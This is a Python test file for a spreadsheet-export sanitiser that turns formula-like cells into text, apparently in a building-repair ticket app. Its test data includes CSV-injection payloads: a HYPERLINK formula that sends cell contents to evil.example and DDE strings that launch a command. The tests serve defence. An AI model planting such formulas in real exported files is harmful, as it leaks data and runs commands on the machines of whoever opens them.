"""Cells a spreadsheet would run as formulas are exported as text (handlers/exports.py, for every export)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.exports import safe_cell, safe_row


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "+86 139 1234 5678",  # looks harmless, but Excel would parse it as a formula: text is safer
    ],
)
def test_formula_cells_become_text(dangerous: str) -> None:
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("楼道灯坏了", "楼道灯坏了"),
        ("GD20261130-0012", "GD20261130-0012"),
        ("5号楼2单元501", "5号楼2单元501"),
        ("-3", "-3"),
        ("+86", "+86"),
        ("2.5", "2.5"),
        (12, "12"),
        (None, ""),
        ("a=b", "a=b"),  # only the first character counts
    ],
)
def test_ordinary_cells_are_unchanged(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@given(st.text())
def test_no_exported_cell_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text) is None:  # plain numbers are the one exception
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def test_a_csv_row_written_through_safe_row_reads_back_as_text() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["GD20261130-0012", "=1+1", None, 3]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["GD20261130-0012", "'=1+1", "", "3"]
